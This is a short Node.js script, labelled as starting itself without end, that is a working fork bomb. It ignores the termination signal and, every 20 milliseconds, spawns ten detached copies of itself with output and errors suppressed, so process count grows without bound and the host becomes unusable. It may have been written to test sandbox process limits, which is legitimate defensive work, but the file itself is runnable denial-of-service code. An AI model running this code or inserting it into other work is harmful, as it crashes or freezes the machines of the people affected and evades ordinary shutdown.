/** Starts itself without end, detached. */
import { spawn } from 'node:child_process';

process.on('SIGTERM', () => {});
setInterval(() => {
  for (let count = 0; count < 10; count += 1) {
    spawn(process.execPath, process.argv.slice(1), { detached: true, stdio: 'ignore' })
      .on('error', () => {})
      .unref();
  }
}, 20);
